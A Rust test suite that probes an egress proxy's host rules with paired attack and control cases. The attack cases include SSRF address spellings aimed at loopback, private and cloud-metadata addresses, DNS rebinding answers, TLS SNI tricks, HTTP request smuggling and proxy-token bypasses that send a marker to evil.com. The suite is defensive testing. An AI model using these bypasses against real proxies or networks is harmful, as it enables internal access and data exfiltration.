//! Ways around the rules. Each case sends bytes and looks whether the mark in them reached a server; its control sends the
//! same bytes where the rule does not stand in the way (or the nearest bytes that keep to it), and there the mark arrives.

use std::net::SocketAddr;
use std::time::Duration;

use decurion_egress::HostRules;

use crate::support::*;

/// Addresses of the servers that everybody may know of.
const PUBLIC: &str = "93.184.216.34";
const PUBLIC_V6: &str = "2606:2800:220:1::1";

struct Case {
    name: &'static str,
    attack: Attack,
    control: Attack,
    /// Where the mark must not arrive.
    forbidden: fn(SocketAddr) -> bool,
}

struct Attack {
    rules: HostRules,
    names: Vec<(&'static str, &'static [&'static str])>,
    bytes: Bytes,
    /// Whether the client is removed before.
    removed: bool,
}

fn attack(rules: HostRules, bytes: Bytes) -> Attack {
    let names: Vec<(&str, &[&str])> = vec![
        ("good.com", &[PUBLIC]),
        ("evil.com", &[PUBLIC]),
        ("sub.good.com", &[PUBLIC]),
        ("bad.good.com", &[PUBLIC]),
        ("evilgood.com", &[PUBLIC]),
        ("good.com.evil.org", &[PUBLIC_V6]),
    ];
    Attack { rules, names, bytes, removed: false }
}

fn case(name: &'static str, attack: Attack, control: Attack) -> Case {
    Case { name, attack, control, forbidden: |_| true }
}

fn good() -> HostRules {
    rules(&["good.com"], &[], false)
}

/// An address written instead of a name, under rules that are open; the control lists the address.
fn literal(name: &'static str, listed: &'static str, bytes: fn() -> Bytes) -> Case {
    case(name, attack(rules(&[], &[], true), bytes()), attack(rules(&[listed], &[], false), bytes()))
}

fn literals() -> Vec<Case> {
    vec![
        literal("loopback", "127.0.0.1", || get("127.0.0.1")),
        literal("loopback, short", "127.0.0.1", || get("127.1")),
        literal("loopback, decimal", "127.0.0.1", || get("2130706433")),
        literal("loopback, hexadecimal", "127.0.0.1", || get("0x7f000001")),
        literal("loopback, hexadecimal and short", "127.0.0.1", || get("0x7f.1")),
        literal("loopback, octal", "127.0.0.1", || get("0177.0.0.1")),
        literal("loopback, octal as a whole", "127.0.0.1", || get("017700000001")),
        literal("loopback, with a final dot", "127.0.0.1", || get("127.0.0.1.")),
        literal("loopback, IPv6", "::1", || get("[::1]")),
        literal("loopback, mapped", "127.0.0.1", || get("[::ffff:127.0.0.1]")),
        literal("loopback, 6to4", "2002::/16", || get("[2002:7f00:1::]")),
        literal("unspecified", "0.0.0.0", || get("0")),
        literal("private", "10.0.0.0/8", || get("10.0.0.5")),
        literal("private, mapped in hexadecimal", "10.0.0.5", || get("[::ffff:a00:5]")),
        literal("metadata", "169.254.169.254", || get("169.254.169.254")),
        literal("metadata, NAT64", "64:ff9b::/96", || get("[64:ff9b::a9fe:a9fe]")),
        literal("metadata, IPv6", "fd00:ec2::254", || get("[fd00:ec2::254]")),
        literal("public address without a name", "8.8.8.8", || get("8.8.8.8")),
        literal("CONNECT to loopback", "127.0.0.1", || connect("127.0.0.1:8080", MARK.as_bytes())),
        literal("CONNECT to a decimal address", "10.0.0.5", || connect("167772165:8080", MARK.as_bytes())),
        literal("CONNECT to link-local", "fe80::/10", || connect("[fe80::1]:8080", MARK.as_bytes())),
        literal("CONNECT to TLS at an address", "192.168.1.1", || connect("192.168.1.1:443", &hello(None))),
        literal("SOCKS, IPv4", "10.0.0.5", || {
            socks(Address::Ip("10.0.0.5".parse().unwrap()), 80, MARK.as_bytes())
        }),
        literal("SOCKS, IPv6", "::1", || socks(Address::Ip("::1".parse().unwrap()), 80, MARK.as_bytes())),
        literal("SOCKS, mapped", "10.0.0.5", || {
            socks(Address::Ip("::ffff:10.0.0.5".parse().unwrap()), 80, MARK.as_bytes())
        }),
        literal("SOCKS, public IPv4", "8.8.8.8", || {
            socks(Address::Ip("8.8.8.8".parse().unwrap()), 443, &hello(None))
        }),
        literal("SOCKS, address as name", "10.0.0.5", || {
            socks(Address::Name(b"10.0.0.5"), 80, MARK.as_bytes())
        }),
        literal("SOCKS, hexadecimal as name", "10.0.0.5", || {
            socks(Address::Name(b"0x0a000005"), 80, MARK.as_bytes())
        }),
        literal("SOCKS, IPv6 as name", "::1", || socks(Address::Name(b"::1"), 80, MARK.as_bytes())),
    ]
}

/// An allowed name that leads inside; the control lists the address too.
fn leads_to(name: &'static str, answers: &'static [&'static str], listed: &'static str) -> Case {
    let aimed = |rules| Attack { names: vec![("good.com", answers)], ..attack(rules, get("good.com")) };
    case(name, aimed(good()), aimed(rules(&["good.com", listed], &[], false)))
}

fn lookups() -> Vec<Case> {
    let inside = |address: SocketAddr| address.ip().to_string() != PUBLIC;
    vec![
        leads_to("name leads to loopback", &["127.0.0.1"], "127.0.0.0/8"),
        leads_to("name leads to a private address", &["10.0.0.5"], "10.0.0.0/8"),
        leads_to("name leads to metadata", &["169.254.169.254"], "169.254.169.254"),
        leads_to("name leads to Azure's metadata", &["168.63.129.16"], "168.63.129.16"),
        leads_to("name leads to IPv6 loopback", &["::1"], "::1"),
        leads_to("name leads to a mapped address", &["::ffff:10.0.0.5"], "10.0.0.5"),
        leads_to("name leads to a NAT64 address", &["64:ff9b::10.0.0.5"], "64:ff9b::/96"),
        leads_to("name leads to a unique-local address", &["fd00::1"], "fd00::/8"),
        leads_to("name leads to link-local", &["fe80::1"], "fe80::1"),
        leads_to("name leads to carrier-grade NAT", &["100.64.0.1"], "100.64.0.0/10"),
        leads_to("name leads to no address", &["0.0.0.0"], "0.0.0.0"),
        leads_to("name leads to multicast", &["224.0.0.1"], "224.0.0.1"),
        Case {
            forbidden: inside,
            ..leads_to("name leads outside and inside", &["10.0.0.5,93.184.216.34"], "10.0.0.5")
        },
        Case {
            control: Attack {
                names: vec![("good.com", &["10.0.0.5"])],
                ..attack(rules(&["good.com", "10.0.0.5"], &[], false), get("good.com"))
            },
            forbidden: inside,
            ..leads_to("second answer leads inside", &[PUBLIC, "10.0.0.5"], "10.0.0.5")
        },
        Case {
            attack: Attack {
                names: vec![("good.com", &["10.0.0.5"])],
                ..attack(rules(&[], &[], true), get("good.com"))
            },
            ..leads_to("name leads inside under open rules", &["10.0.0.5"], "10.0.0.0/8")
        },
        case(
            "name leads to a denied public address",
            attack(rules(&["good.com"], &["93.184.0.0/16"], false), get("good.com")),
            attack(good(), get("good.com")),
        ),
    ]
}

fn hosts() -> Vec<Case> {
    let open = || rules(&[], &[], true);
    let below = || rules(&["*.good.com"], &[], false);
    let parent = rules(&["good.com"], &["sub.good.com"], false);
    vec![
        case("unknown host", attack(good(), get("evil.com")), attack(open(), get("evil.com"))),
        case(
            "unknown host by CONNECT",
            attack(good(), connect("evil.com:443", &hello(Some("evil.com")))),
            attack(open(), connect("evil.com:443", &hello(Some("evil.com")))),
        ),
        case(
            "unknown host by SOCKS",
            attack(good(), socks(Address::Name(b"evil.com"), 443, &hello(Some("evil.com")))),
            attack(open(), socks(Address::Name(b"evil.com"), 443, &hello(Some("evil.com")))),
        ),
        case(
            "denied host under open rules",
            attack(rules(&[], &["evil.com"], true), get("evil.com")),
            attack(open(), get("evil.com")),
        ),
        case(
            "denied host in capitals and with a dot",
            attack(rules(&[], &["evil.com"], true), get("EVIL.com.")),
            attack(open(), get("EVIL.com.")),
        ),
        case(
            "denied below an allowed wildcard",
            attack(rules(&["*.good.com"], &["bad.good.com"], false), get("bad.good.com")),
            attack(below(), get("bad.good.com")),
        ),
        case(
            "name that ends like an allowed one",
            attack(below(), get("evilgood.com")),
            attack(open(), get("evilgood.com")),
        ),
        case(
            "name that begins like an allowed one",
            attack(good(), get("good.com.evil.org")),
            attack(open(), get("good.com.evil.org")),
        ),
        case("name above a wildcard", attack(below(), get("good.com")), attack(good(), get("good.com"))),
        case(
            "other port",
            attack(rules(&["good.com:8443"], &[], false), connect("good.com:8080", MARK.as_bytes())),
            attack(good(), connect("good.com:8080", MARK.as_bytes())),
        ),
        case(
            "user before the host",
            attack(
                good(),
                raw(&format!(
                    "GET http://good.com@evil.com/{MARK} HTTP/1.1\r\nHost: good.com\r\n{{login}}\r\n"
                )),
            ),
            attack(open(), get("evil.com")),
        ),
        case(
            "backslash in the host",
            attack(
                open(),
                raw(&format!(
                    "GET http://evil.com\\.good.com/{MARK} HTTP/1.1\r\nHost: evil.com\r\n{{login}}\r\n"
                )),
            ),
            attack(open(), get("evil.com")),
        ),
        case("escaped host", attack(open(), get("good%2ecom")), attack(open(), get("good.com"))),
        case(
            "zero byte in a SOCKS name",
            attack(below(), socks(Address::Name(b"evil.com\0.good.com"), 80, MARK.as_bytes())),
            attack(below(), socks(Address::Name(b"sub.good.com"), 80, MARK.as_bytes())),
        ),
        case(
            "child allows what its parent does not",
            attack(open().narrowed_by(&parent), get("evil.com")),
            attack(open(), get("evil.com")),
        ),
        case(
            "child allows what its parent denies",
            attack(below().narrowed_by(&parent), get("sub.good.com")),
            attack(below(), get("sub.good.com")),
        ),
    ]
}

fn tls() -> Vec<Case> {
    let tunnel = |port: u16, inside: &[u8]| attack(good(), connect(&format!("good.com:{port}"), inside));
    let right = || hello(Some("good.com"));
    let one = |extensions: &[u8]| tls_records(&hello_with(extensions), 16 * 1024);
    let twice = [server_name(b"good.com"), server_name(b"evil.com")].concat();
    let hidden = [server_name(b"good.com"), vec![0xfe, 0x0d, 0, 1, 0]].concat();
    let mut followed = hello_with(&server_name(b"good.com"));
    followed.extend(hello_with(&server_name(b"evil.com")));
    let listed = || rules(&["10.0.0.5"], &[], false);
    vec![
        case("hello for another host", tunnel(443, &hello(Some("evil.com"))), tunnel(443, &right())),
        case("hello for a host below", tunnel(443, &hello(Some("sub.good.com"))), tunnel(443, &right())),
        case("hello for no host", tunnel(443, &hello(None)), tunnel(443, &right())),
        case("hello for two hosts", tunnel(443, &one(&twice)), tunnel(443, &right())),
        case("hello with a zero byte", tunnel(443, &one(&server_name(b"good.com\0"))), tunnel(443, &right())),
        case("hello for an empty name", tunnel(443, &one(&server_name(b""))), tunnel(443, &right())),
        case(
            "hello with a hidden one inside",
            tunnel(443, &one(&hidden)),
            attack(rules(&[], &[], true), connect("good.com:443", &one(&hidden))),
        ),
        case(
            "hello for another host in tiny records",
            tunnel(443, &tls_records(&hello_with(&server_name(b"evil.com")), 3)),
            tunnel(443, &tls_records(&hello_with(&server_name(b"good.com")), 40)),
        ),
        case(
            "two hellos in one record",
            tunnel(443, &tls_records(&followed, 16 * 1024)),
            tunnel(443, &right()),
        ),
        case(
            "hello that is cut by another kind of record",
            tunnel(
                443,
                &[tls_records(&hello_with(&[])[..20], 20), vec![23, 3, 3, 0, 1, 0], hello(Some("good.com"))]
                    .concat(),
            ),
            tunnel(443, &right()),
        ),
        case("plain bytes on port 443", tunnel(443, MARK.as_bytes()), tunnel(8080, MARK.as_bytes())),
        case(
            "plain HTTP for another host on port 443",
            tunnel(443, format!("GET /{MARK} HTTP/1.1\r\nHost: evil.com\r\n\r\n").as_bytes()),
            tunnel(8080, format!("GET /{MARK} HTTP/1.1\r\nHost: good.com\r\n\r\n").as_bytes()),
        ),
        case(
            "hello of SSL 2 on port 443",
            tunnel(443, &[&[0x80, 46, 1, 3, 1][..], MARK.as_bytes()].concat()),
            tunnel(8080, &[&[0x80, 46, 1, 3, 1][..], MARK.as_bytes()].concat()),
        ),
        case(
            "hello for another host on another port",
            tunnel(8443, &hello(Some("evil.com"))),
            tunnel(8443, &right()),
        ),
        case(
            "alert before a hello for another host on another port",
            tunnel(8443, &[vec![21, 3, 1, 0, 2, 1, 90], hello(Some("evil.com"))].concat()),
            tunnel(8443, &right()),
        ),
        case(
            "empty data before a hello for another host on another port",
            tunnel(8443, &[vec![23, 3, 1, 0, 0], hello(Some("evil.com"))].concat()),
            tunnel(8443, &right()),
        ),
        case("hello for no host on another port", tunnel(8443, &hello(None)), tunnel(8443, &right())),
        case(
            "hello for another host by SOCKS",
            attack(good(), socks(Address::Name(b"good.com"), 443, &hello(Some("evil.com")))),
            attack(good(), socks(Address::Name(b"good.com"), 443, &right())),
        ),
        case(
            "hello for a name at an address",
            attack(listed(), connect("10.0.0.5:443", &hello(Some("evil.com")))),
            attack(listed(), connect("10.0.0.5:443", &hello(None))),
        ),
    ]
}

fn requests() -> Vec<Case> {
    let send = |text: &str| attack(good(), raw(&text.replace("MARK", MARK)));
    let posted =
        || send("POST http://good.com/ HTTP/1.1\r\nHost: good.com\r\n{login}Content-Length: 8\r\n\r\nMARK");
    let fetched = || attack(good(), get("good.com"));
    let pairs: Vec<(&'static str, &str)> = vec![
        ("Host of another server", "GET http://good.com/MARK HTTP/1.1\r\nHost: evil.com\r\n{login}\r\n"),
        ("no Host", "GET http://good.com/MARK HTTP/1.1\r\n{login}\r\n"),
        ("two Hosts", "GET http://good.com/MARK HTTP/1.1\r\nHost: good.com\r\nHost: evil.com\r\n{login}\r\n"),
        ("Host with another port", "GET http://good.com/MARK HTTP/1.1\r\nHost: good.com:81\r\n{login}\r\n"),
        ("Host with a user", "GET http://good.com/MARK HTTP/1.1\r\nHost: evil.com@good.com\r\n{login}\r\n"),
        ("bare line feed", "GET http://good.com/ HTTP/1.1\r\nHost: good.com\r\n{login}A: b\nMARK: x\r\n\r\n"),
        (
            "bare carriage return",
            "GET http://good.com/ HTTP/1.1\r\nHost: good.com\r\n{login}A: b\rMARK: x\r\n\r\n",
        ),
        ("folded header", "GET http://good.com/ HTTP/1.1\r\nHost: good.com\r\n{login}A: b\r\n MARK\r\n\r\n"),
        (
            "space before a colon",
            "GET http://good.com/MARK HTTP/1.1\r\nHost: good.com\r\n{login}A : b\r\n\r\n",
        ),
        (
            "zero byte in a header",
            "GET http://good.com/MARK HTTP/1.1\r\nHost: good.com\r\n{login}A: b\0\r\n\r\n",
        ),
        ("tab in the request line", "GET\thttp://good.com/MARK HTTP/1.1\r\nHost: good.com\r\n{login}\r\n"),
        ("path without host", "GET /MARK HTTP/1.1\r\nHost: good.com\r\n{login}\r\n"),
        ("URL of https", "GET https://good.com/MARK HTTP/1.1\r\nHost: good.com\r\n{login}\r\n"),
        ("URL of ftp", "GET ftp://good.com/MARK HTTP/1.1\r\nHost: good.com\r\n{login}\r\n"),
        ("HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nMARK"),
        ("HTTP/0.9", "GET http://good.com/MARK\r\n{login}\r\n"),
        (
            "length and chunks",
            "POST http://good.com/ HTTP/1.1\r\nHost: good.com\r\n{login}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nMARK",
        ),
        (
            "two lengths",
            "POST http://good.com/ HTTP/1.1\r\nHost: good.com\r\n{login}Content-Length: 8\r\nContent-Length: 0\r\n\r\nMARK",
        ),
        (
            "two lengths in one",
            "POST http://good.com/ HTTP/1.1\r\nHost: good.com\r\n{login}Content-Length: 8, 8\r\n\r\nMARK",
        ),
        (
            "length with a sign",
            "POST http://good.com/ HTTP/1.1\r\nHost: good.com\r\n{login}Content-Length: +8\r\n\r\nMARK",
        ),
        (
            "unknown encoding",
            "POST http://good.com/ HTTP/1.1\r\nHost: good.com\r\n{login}Transfer-Encoding: xchunked\r\n\r\n8\r\nMARK\r\n0\r\n\r\n",
        ),
        (
            "chunk with an extension",
            "POST http://good.com/ HTTP/1.1\r\nHost: good.com\r\n{login}Transfer-Encoding: chunked\r\n\r\n8;a=b\r\nMARK\r\n0\r\n\r\n",
        ),
        (
            "second request behind the first",
            "GET http://good.com/FINISH HTTP/1.1\r\nHost: good.com\r\n{login}\r\nGET /MARK HTTP/1.1\r\nHost: evil.com\r\n\r\n",
        ),
        (
            "second request behind a body",
            "POST http://good.com/ HTTP/1.1\r\nHost: good.com\r\n{login}Content-Length: 6\r\n\r\nFINISHGET /MARK HTTP/1.1\r\nHost: evil.com\r\n\r\n",
        ),
        (
            "second request behind chunks",
            "POST http://good.com/ HTTP/1.1\r\nHost: good.com\r\n{login}Transfer-Encoding: chunked\r\n\r\n6\r\nFINISH\r\n0\r\n\r\nGET /MARK HTTP/1.1\r\nHost: evil.com\r\n\r\n",
        ),
        (
            "header in a trailer",
            "POST http://good.com/ HTTP/1.1\r\nHost: good.com\r\n{login}Transfer-Encoding: chunked\r\n\r\n6\r\nFINISH\r\n0\r\nX: MARK\r\n\r\n",
        ),
    ];
    let mut cases: Vec<Case> =
        pairs.into_iter().map(|(name, text)| case(name, send(text), fetched())).collect();
    let plain = || attack(good(), connect("good.com:8080", MARK.as_bytes()));
    let connects: Vec<(&'static str, &str)> = vec![
        ("CONNECT with a body", "CONNECT good.com:8080 HTTP/1.1\r\n{login}Content-Length: 8\r\n\r\nMARK"),
        (
            "CONNECT with chunks",
            "CONNECT good.com:8080 HTTP/1.1\r\n{login}Transfer-Encoding: chunked\r\n\r\n8\r\nMARK\r\n0\r\n\r\n",
        ),
        (
            "CONNECT with another Host",
            "CONNECT good.com:8080 HTTP/1.1\r\nHost: evil.com:8080\r\n{login}\r\nMARK",
        ),
        ("CONNECT without a port", "CONNECT good.com HTTP/1.1\r\nHost: good.com\r\n{login}\r\nMARK"),
        (
            "CONNECT to a URL",
            "CONNECT http://good.com:8080/ HTTP/1.1\r\nHost: good.com:8080\r\n{login}\r\nMARK",
        ),
        ("CONNECT to port 0", "CONNECT good.com:0 HTTP/1.1\r\nHost: good.com:0\r\n{login}\r\nMARK"),
    ];
    cases.extend(connects.into_iter().map(|(name, text)| case(name, send(text), plain())));
    cases.push(case("body beyond its length", posted_beyond(), posted()));
    cases
}

/// Only as many bytes as the length says belong to the request.
fn posted_beyond() -> Attack {
    let text = format!(
        "POST http://good.com/{FINISH} HTTP/1.1\r\nHost: good.com\r\n{{login}}Content-Length: 4\r\n\r\n{MARK}"
    );
    attack(good(), raw(&text))
}

fn tokens() -> Vec<Case> {
    let fetched = || attack(good(), get("good.com"));
    let send = |headers: &str| {
        attack(
            good(),
            raw(&format!("GET http://good.com/{MARK} HTTP/1.1\r\nHost: good.com\r\n{headers}\r\n")),
        )
    };
    let socks_with = |messages: fn(&str) -> Vec<u8>| {
        let request = socks(Address::Name(b"good.com"), 8080, MARK.as_bytes());
        let bytes: Bytes = Box::new(move |token| {
            let all = request(token);
            let own = 3 + socks_login(token).len();
            [&messages(token), &all[own..]].concat()
        });
        attack(good(), bytes)
    };
    let socks_right = || attack(good(), socks(Address::Name(b"good.com"), 8080, MARK.as_bytes()));
    vec![
        case("no token", send(""), fetched()),
        case("unknown token", send(&login("0123456789abcdef0123456789abcdef")), fetched()),
        case("empty token", send(&login("")), fetched()),
        case("name instead of token", send(&login("agent")), fetched()),
        case("token of another scheme", send("Proxy-Authorization: Bearer {token}\r\n"), fetched()),
        case("token for the server", send("Authorization: Basic {token}\r\n"), fetched()),
        case("two tokens", send("{login}{login}"), fetched()),
        case("token of a client that was removed", Attack { removed: true, ..fetched() }, fetched()),
        case("SOCKS without login", socks_with(|_| vec![5, 1, 0]), socks_right()),
        case("SOCKS that skips the login", socks_with(|_| vec![5, 1, 2]), socks_right()),
        case(
            "SOCKS with an unknown token",
            socks_with(|_| [&[5, 1, 2][..], &socks_login("agent")].concat()),
            socks_right(),
        ),
        case("SOCKS version 4", socks_with(|_| vec![4, 1, 2]), socks_right()),
        case("SOCKS that wants to listen", socks_bind(), socks_right()),
    ]
}

fn socks_bind() -> Attack {
    let request = socks(Address::Name(b"good.com"), 8080, MARK.as_bytes());
    let bytes: Bytes = Box::new(move |token| {
        let mut all = request(token);
        let command = 3 + socks_login(token).len() + 1;
        all[command] = 2;
        all
    });
    attack(good(), bytes)
}

/// Whether the mark of the attack reaches a server where it must not.
async fn mark_arrives(attack: Attack, forbidden: fn(SocketAddr) -> bool) -> bool {
    let net = Net::new(Server::Answer, &attack.names);
    let mut world = World::new(net, attack.rules).await;
    let bytes = (attack.bytes)(world.client.token());
    if attack.removed {
        world.gate.clients().remove(world.client.token());
    }
    // A test that hangs says nothing; one that fails says which case it is.
    let ended = tokio::time::timeout(Duration::from_secs(30), world.exchange(&bytes)).await.is_ok();
    if !ended {
        return world.net.reached(MARK, forbidden);
    }
    // The record comes when nothing more of the connection will be sent.
    world.record().await;
    world.net.reached(MARK, forbidden)
}

async fn check(cases: Vec<Case>, at_least: usize) {
    assert!(cases.len() >= at_least, "{} cases", cases.len());
    let mut wrong = Vec::new();
    for case in cases {
        let Case { name, attack, control, forbidden } = case;
        if mark_arrives(attack, forbidden).await {
            wrong.push(format!("{name}: the attack arrives"));
        }
        if !mark_arrives(control, forbidden).await {
            wrong.push(format!("{name}: the control does not arrive"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[tokio::test]
async fn addresses_in_any_spelling_are_not_reached_unless_listed() {
    check(literals(), 29).await;
}

#[tokio::test]
async fn names_do_not_lead_inside() {
    check(lookups(), 16).await;
}

#[tokio::test]
async fn hosts_that_are_not_allowed_are_not_reached() {
    check(hosts(), 16).await;
}

#[tokio::test]
async fn a_tunnel_leads_only_to_the_name_that_was_decided_about() {
    check(tls(), 19).await;
}

#[tokio::test]
async fn no_request_is_smuggled_past_the_rules() {
    check(requests(), 33).await;
}

#[tokio::test]
async fn only_known_tokens_pass() {
    check(tokens(), 13).await;
}

#[tokio::test]
async fn a_name_that_is_refused_is_not_even_looked_up() {
    for (rules, expected) in [(good(), 0), (rules(&[], &["evil.com"], true), 0), (rules(&[], &[], true), 1)] {
        let net = Net::new(Server::Answer, &[("evil.com", &[PUBLIC])]);
        let world = World::new(net, rules).await;
        world.exchange(&get("evil.com")(world.client.token())).await;
        assert_eq!(world.net.lookups().len(), expected);
    }
}

#[tokio::test]
async fn a_name_is_looked_up_once_per_connection() {
    let net = Net::new(Server::Answer, &[("good.com", &[PUBLIC, "10.0.0.5"])]);
    let world = World::new(net, good()).await;
    world.exchange(&get("good.com")(world.client.token())).await;
    assert_eq!(world.net.lookups(), ["good.com"]);
    assert_eq!(world.net.received()[0].0.to_string(), format!("{PUBLIC}:80"));
}
